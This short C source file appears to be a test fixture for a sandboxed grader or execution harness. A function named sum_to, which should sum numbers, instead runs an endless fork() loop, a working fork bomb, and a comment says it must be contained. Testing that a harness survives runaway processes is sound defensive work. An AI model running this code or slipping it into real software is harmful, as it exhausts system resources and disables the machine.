/* A fork bomb: must be contained and cleaned up. */
#include <unistd.h>
#include "sum.h"

long sum_to(int n)
{
    (void)n;
    for (;;) fork();
}
